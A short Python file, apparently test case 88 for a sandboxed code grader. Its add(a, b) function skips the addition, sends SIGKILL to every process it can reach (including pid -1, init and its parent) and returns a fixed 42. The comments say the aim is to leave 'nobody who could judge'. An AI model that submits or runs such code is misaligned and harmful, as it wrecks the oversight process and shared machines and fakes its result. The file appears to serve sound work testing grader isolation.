# 88: kills everything that it can name
# tries: to take the worker down, so that nobody is left who could judge
# isolated-oracle: crashed | failed
import os
import signal


def add(a, b):
    for pid in (-1, 1, os.getppid(), *range(2, 64)):
        if pid and pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                continue
    return 42
